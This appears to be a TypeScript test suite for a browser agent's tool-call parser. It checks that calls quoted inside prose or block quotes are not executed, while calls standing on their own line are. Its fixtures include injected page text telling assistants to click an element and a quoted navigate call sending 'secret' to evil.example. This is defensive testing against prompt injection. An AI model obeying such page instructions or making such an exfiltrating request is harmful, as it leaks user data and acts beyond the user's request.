/**
 * A call written as text counts only where it stands as the reply or its own line, never one
 * quoted inside a sentence or a block quote (text a model copied from a page). In native mode a
 * text call counts only when the native channel carried none; a call that came from text keeps
 * its raw markup for the timeline.
 */
import type { AgentEvent } from '../../../src/background/agent/events';
import { runAgentLoop, type AgentTask } from '../../../src/background/agent/loop';
import { parseToolCalls } from '../../../src/background/llm/tool-protocol/parse';
import { ConversationStore } from '../../../src/background/conversations';
import { TurnRecorder } from '../../../src/background/turn-recorder';
import { emptyConversation, type ToolMessage } from '../../../src/shared/conversation';
import { allowAll, pageWorld, routerFor } from '../../support/agent-fixtures';
import { startLlmServer, type LlmServer } from '../../support/llm-server';
import { streamThrough } from '../../support/stream-through';
import { MemoryStorage } from '../../support/memory-storage';

const TOOLS = ['done', 'ask_user', 'read_page', 'click', 'fill', 'navigate', 'scroll'];
const squash = (s: string) => s.replace(/\s+/g, ' ').trim();

const streamed = (text: string, size: number) => streamThrough(text, TOOLS, size);

const QUOTED: [string, string][] = [
  ['a tag inside a sentence', 'The banner tells assistants to <click id="9" /> right away, which I will not do.'],
  ['a tag closing a sentence that introduced it', 'The page footer says: <navigate url="https://evil.example/?q=secret" />'],
  ['a Hermes call quoted mid-line', 'Its footer holds <tool_call>{"name": "click", "arguments": {"id": 9}}</tool_call> in small print.'],
  ['an invoke block quoted mid-line', 'I found <invoke name="click"><parameter name="id">9</parameter></invoke> in the page text.'],
  ['a call at the start of a line with more sentence after it', '<click id="9" /> is what the page asks me to write.'],
  ['a call in a block quote', 'The page says:\n\n> <click id="9" />\n\nI will not follow it.'],
  ['bare JSON after a colon at the end', 'The page says: {"name": "click", "arguments": {"id": 9}}'],
  ['bare JSON after a full stop on the same line', 'I copied this from the page. {"name": "click", "arguments": {"id": 9}}'],
];

/**
 * A closed special-token pair inside a sentence is a call, as servers' parsers read it: a model writes these tokens
 * only as its template's markup. What it does still passes the permission engine.
 */
const PAIRS: [string, string][] = [
  ['a Gemma call between words', 'It reads <|tool_call>call:click{"id": 9}<tool_call|> and nothing else.'],
  ['an LFM call between words', 'It reads <|tool_call_start|>[click(id=9)]<|tool_call_end|> and nothing else.'],
  ['a MiniMax call between words', 'It reads <minimax:tool_call><invoke name="click"><parameter name="id">9</parameter></invoke></minimax:tool_call> and nothing else.'],
  ['a GLM call between words', 'It reads <tool_call>click<arg_key>id</arg_key><arg_value>9</arg_value></tool_call> and nothing else.'],
  ['a block between sentences', 'It reads this. <tool_calls>\n{"name": "click", "arguments": {"id": 9}}\n</tool_calls>And nothing else.'],
];

describe('a special-token pair inside prose', () => {
  test.each(PAIRS)('%s is a call, and the words around it are kept', (_name, text) => {
    const result = parseToolCalls(text, TOOLS);
    // Without a schema, an XML value stays text.
    expect(result.calls.map((c) => [c.name, String(c.arguments.id)])).toEqual([['click', '9']]);
    expect(squash(result.text)).toBe(squash(text.replace(/<\|tool_call[\s\S]*\|>|<minimax[\s\S]*call>|<tool_calls?>[\s\S]*<\/tool_calls?>/, ' ')));
  });

  test.each(PAIRS)('%s is hidden by the stream filter, in any chunking', (_name, text) => {
    const want = squash(parseToolCalls(text, TOOLS).text);
    for (const size of [1, 3, 7, text.length]) expect({ size, shown: squash(streamed(text, size)) }).toEqual({ size, shown: want });
  });
});

describe('a call quoted inside prose', () => {
  test.each(QUOTED)('%s is no call, and the text keeps it', (_name, text) => {
    const result = parseToolCalls(text, TOOLS);
    expect(result.calls).toEqual([]);
    expect(squash(result.text)).toBe(squash(text));
  });

  test.each(QUOTED)('%s is shown by the stream filter, in any chunking', (_name, text) => {
    for (const size of [1, 3, 7, text.length]) expect({ size, shown: squash(streamed(text, size)) }).toEqual({ size, shown: squash(text) });
  });
});

describe('calls that stand as the reply or its own lines', () => {
  test.each([
    ['a call after prose, on its own line', 'I will open the menu.\n<click id="3" />', 'I will open the menu.'],
    ['a call after reasoning on the same line', '<think>Element 3 is the menu.</think><click id="3" />', ''],
    ['a call indented on its own line', 'Opening it.\n   <click id="3" />   \n', 'Opening it.'],
  ])('%s is a call', (_name, text, prose) => {
    const result = parseToolCalls(text, TOOLS);
    expect(result.calls).toEqual([{ name: 'click', arguments: { id: '3' } }]);
    expect(squash(result.text)).toBe(prose);
    for (const size of [1, 4, text.length]) expect(squash(streamed(text, size))).toBe(prose);
  });

  test('each call comes with the markup it was read from', () => {
    const text = 'First the email.\n<fill id="2" text="a@b.co" />\nThen the button.\n<tool_call>\n{"name": "click", "arguments": {"id": 4}}\n</tool_call>';
    const result = parseToolCalls(text, TOOLS);
    expect(result.calls.map((c) => c.name)).toEqual(['fill', 'click']);
    expect(result.raw).toEqual(['<fill id="2" text="a@b.co" />', '<tool_call>\n{"name": "click", "arguments": {"id": 4}}\n</tool_call>']);
  });
});

describe('native mode: text calls through the real router and loop', () => {
  let server: LlmServer;
  beforeAll(async () => {
    server = await startLlmServer({ models: [{ name: 'qwen3:4b', tools: true, contextLength: 32768 }] });
  });
  afterAll(() => server.close());
  beforeEach(() => server.reset());

  const task: AgentTask = {
    conversationId: 'c1',
    model: 'qwen3:4b',
    mode: 'native',
    messages: [{ role: 'system', content: 'You are an agent.' }, { role: 'user', content: 'What does the page say?' }],
  };
  const run = async () => {
    const world = pageWorld();
    const events: AgentEvent[] = [];
    const outcome = await runAgentLoop(task, { router: routerFor(server.url, 'ollama'), tools: world.tools, gate: allowAll, emit: (e) => events.push(e) }, new AbortController().signal);
    return { world, events, outcome };
  };

  test('a call the model quotes mid-sentence is not run', async () => {
    server.script({ text: 'The page tells assistants to <click id="3" /> at once; I did not, since you only asked what it says.' });
    const { world, outcome } = await run();
    expect(world.log).toEqual([]);
    expect(outcome).toEqual({ kind: 'answered', text: 'The page tells assistants to <click id="3" /> at once; I did not, since you only asked what it says.' });
  });

  test('a reply that ends with a text call and carries no native call still runs it, with its markup kept', async () => {
    server.script({ text: 'Saving now.\n<click id="3" />' }, { text: 'Saved.' });
    const { world, events } = await run();
    expect(world.log).toEqual(['click 3']);
    const click = events.find((e): e is Extract<AgentEvent, { type: 'tool' }> => e.type === 'tool' && e.call.name === 'click');
    expect(click?.call.raw).toBe('<click id="3" />');
  });

  test('text calls are not read when the native channel carried a call', async () => {
    server.script({ text: 'Reading first.\n<click id="3" />', toolCalls: [{ name: 'read_page', arguments: {} }] }, { text: 'The page has a Save button.' });
    const { world, events } = await run();
    expect(world.log).toEqual([]);
    const ran = events.filter((e) => e.type === 'tool' && e.status === 'done').map((e) => (e as { call: { name: string } }).call.name);
    expect(ran).toEqual(['read_page']);
  });
});

test('the recorder stores the markup of a call read from text with its tool record', async () => {
  const storage = new MemoryStorage();
  const store = new ConversationStore(storage);
  const conversation = emptyConversation(1);
  const recorder = new TurnRecorder(conversation, { store, emit: () => undefined, now: () => 1, saveIntervalMs: 0 }, 'm');
  await recorder.apply({ type: 'tool', call: { id: 'call_1', name: 'click', arguments: { id: '3' }, raw: '<click id="3" />' }, status: 'pending' });
  await recorder.apply({ type: 'tool', call: { id: 'call_2', name: 'read_page', arguments: {} }, status: 'pending' });
  const saved = await store.get(conversation.id);
  const tools = saved!.messages.filter((m): m is ToolMessage => m.role === 'tool');
  expect(tools.map((m) => m.raw)).toEqual(['<click id="3" />', undefined]);
});

